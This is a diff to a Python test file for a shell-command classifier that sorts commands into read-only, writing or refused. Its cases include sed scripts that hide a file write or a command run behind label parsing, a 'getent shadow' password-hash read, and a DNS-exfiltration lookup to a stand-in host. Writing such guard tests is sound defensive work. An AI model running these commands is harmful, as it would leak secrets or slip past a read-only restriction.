@@ -59,6 +59,13 @@ EXACT = [
     ("ip link show dev lo set down", "write", "ip: word 'set' is a verb that changes state"),
     ("sed 's/a/b/w /tmp/x' /etc/hostname", "write", "sed: script 's/a/b/w /tmp/x': sed 's' flag 'w' writes a file"),
     ("mount /dev/sda /mnt", "write", "mount: only allowed without arguments (with arguments it changes mounts)"),
+    ("sysctl vm", "write", "sysctl: reading 'vm' reads vm.stat_refresh, which makes the kernel fold its per-CPU "
+     "counters (a change); name the parameters to read (sysctl vm.swappiness vm.overcommit_memory), or a prefix "
+     "other than vm"),
+    ("sysctl -a", "write", "sysctl: reading every parameter reads vm.stat_refresh, which makes the kernel fold its "
+     "per-CPU counters (a change); name the parameters to read (sysctl vm.swappiness vm.overcommit_memory), or a "
+     "prefix other than vm"),
+    ("sed 'ba;:a w /tmp/x' /etc/hostname", "write", "sed: script 'ba;:a w /tmp/x': sed command 'w' writes a file"),
     ("date 0101", "write", "date: operand '0101' would set the system clock (only +FORMAT is read-only)"),
     ("getent shadow", "refused", "getent: database 'shadow' holds password hashes (a secret)"),
     ("getent hosts c2VjcmV0.exfil.example", "refused",
@@ -149,7 +156,8 @@ def test_abbreviations_resolve_against_refused_and_known_names():
 
 
 @pytest.mark.parametrize("script", ["1p", "s/a/b/g", "/x/,/y/{p;d}", "$!N;P;D", ":a;N;ba", "y/ab/cd/",
-                                    "1~2p", "0,/re/d", "s|a|b|2p", "\\%x%d", "a text w /tmp/x", "# w x"])
+                                    "1~2p", "0,/re/d", "s|a|b|2p", "\\%x%d", "a text w /tmp/x", "# w x",
+                                    "{ba};:a;p", "b end;:end;p", "t;p", "v 4.2"])
 def test_sed_scripts_that_only_print_are_read(script):
     assert sed_script_problem(script) is None
 
@@ -161,6 +169,10 @@ def test_sed_scripts_that_only_print_are_read(script):
     ("p;w /tmp/x", "command 'w'"), ("/x/!{p;w /tmp/x\n}", "command 'w'"), ("s/a/b/gw /tmp/x", "flag 'w'"),
     ("s/a", "unterminated"), ("k", "sed command 'k' is not on the read-only list"),
     ("\u00b2p", "not on the read-only list"),  # "²" is no line number to sed
+    # GNU sed ends a label at whitespace and reads what follows as the next command
+    ("ba;:a w /tmp/x", "command 'w'"), ("ba;:a e id", "command 'e'"), (":a\tw /tmp/x", "command 'w'"),
+    ("b a w /tmp/x", "command 'w'"), ("ba}w /tmp/x", "command 'w'"),
+    ("ba\nw /tmp/x\n:a", "not on the read-only list"), (":a\u00a0w /tmp/x", "label"),
 ])
 def test_sed_scripts_that_write_or_run_are_not_read(script, why):
     assert why in (sed_script_problem(script) or "")
